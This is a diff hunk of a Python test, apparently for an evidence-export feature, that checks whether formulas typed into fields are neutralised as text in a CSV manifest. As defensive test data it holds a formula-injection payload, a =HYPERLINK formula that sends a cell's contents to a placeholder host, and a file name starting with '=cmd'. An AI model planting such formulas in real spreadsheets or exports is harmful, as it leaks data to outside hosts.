@@ -31,7 +31,7 @@ def test_evidence_manifest_shows_formulas_typed_by_the_unit_as_text(
         description='=HYPERLINK("https://contoh.invalid/?"&A1,"Buka")',
     )
     out = io.BytesIO()
-    write_evidence_zip(assessment=assessment, out=out)
+    write_evidence_zip(assessment=assessment, reader=None, out=out)
     manifest = zipfile.ZipFile(out).read("manifest.csv").decode("utf-8-sig")
     row = next(csv.DictReader(io.StringIO(manifest)))
     assert row["nama_asli"] == "'=cmd.pdf"
